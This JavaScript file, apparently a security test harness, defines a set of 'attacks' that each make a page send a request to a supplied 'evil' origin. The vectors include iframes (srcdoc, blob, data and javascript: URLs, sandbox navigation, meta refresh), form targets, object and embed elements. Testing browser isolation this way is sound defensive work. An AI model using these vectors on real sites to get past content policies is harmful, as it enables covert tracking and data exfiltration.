// Frames and plugins: what they load, and what runs in them.
"use strict";

window.attacks ??= {};

const framed = (properties, parent = document.body) =>
  parent.appendChild(Object.assign(document.createElement("iframe"), properties));
const scripted = (evil) => `<script>fetch(${JSON.stringify(evil)}, { mode: "no-cors" })</${"script"}>`;
/** A frame of the page's own origin, asked for its `fetch` once it is there. */
const borrow = (src) => (evil) => {
  const frame = framed({ src });
  frame.onload = () => frame.contentWindow.fetch(evil, { mode: "no-cors" }).catch(() => {});
};

Object.assign(window.attacks, {
  iframe_src: (evil) => void framed({ src: `${evil}/x` }),
  iframe_innerHTML: (evil) => {
    document.body.appendChild(document.createElement("div")).innerHTML = `<iframe src="${evil}/x"></iframe>`;
  },
  iframe_credentialless: (evil) => void framed({ credentialless: true, src: `${evil}/x` }),
  iframe_srcdoc_img: (evil) => void framed({ srcdoc: `<img src="${evil}/x.png">` }),
  iframe_srcdoc_fetch: (evil) => void framed({ srcdoc: scripted(evil) }),
  iframe_blank_fetch: (evil) => framed({}).contentWindow.fetch(evil, { mode: "no-cors" }),
  iframe_jsurl: (evil) => void framed({ src: `javascript:void fetch(${JSON.stringify(evil)}, { mode: "no-cors" })` }),
  iframe_blob_fetch: (evil) =>
    void framed({ src: URL.createObjectURL(new Blob([scripted(evil)], { type: "text/html" })) }),
  iframe_data_fetch: (evil) => void framed({ src: `data:text/html,${encodeURIComponent(scripted(evil))}` }),
  iframe_sameorigin_nocsp_fetch: borrow("./helper/plain.html"),
  iframe_sameorigin_404_fetch: borrow("./helper/missing"),
  iframe_sandbox_nav: (evil) => {
    const frame = document.createElement("iframe");
    frame.setAttribute("sandbox", "allow-scripts");
    frame.srcdoc = `<script>location = ${JSON.stringify(`${evil}/x`)}</${"script"}>`;
    document.body.append(frame);
  },
  iframe_metarefresh: (evil) => void framed({ srcdoc: `<meta http-equiv="refresh" content="0; url=${evil}/x">` }),
  iframe_form_target: (evil) => {
    framed({ name: "aim" });
    const form = document.createElement("form");
    Object.assign(form, { action: `${evil}/x`, target: "aim" });
    document.body.appendChild(form).submit();
  },
  object_data: (evil) =>
    void document.body.appendChild(Object.assign(document.createElement("object"), { data: `${evil}/x` })),
  object_img: (evil) =>
    void document.body.appendChild(
      Object.assign(document.createElement("object"), { type: "image/png", data: `${evil}/x.png` }),
    ),
  embed_src: (evil) =>
    void document.body.appendChild(Object.assign(document.createElement("embed"), { src: `${evil}/x` })),
});
